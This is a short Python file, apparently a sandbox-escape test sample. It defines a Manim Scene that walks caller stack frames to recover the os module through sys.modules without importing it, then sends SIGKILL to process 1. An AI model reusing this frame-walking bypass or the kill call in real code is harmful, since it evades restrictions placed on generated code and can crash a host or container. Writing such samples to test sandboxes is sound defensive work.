"""Takes `sys` from a caller's globals via f_back, `os` from its modules, then signals pid 1."""

import inspect

from manim import Scene


class FBackGlobals(Scene):
    def construct(self):
        frame = inspect.currentframe().f_back
        while "sys" not in frame.f_globals:
            frame = frame.f_back
        system = frame.f_globals["sys"].modules["os"]
        system.kill(1, 9)
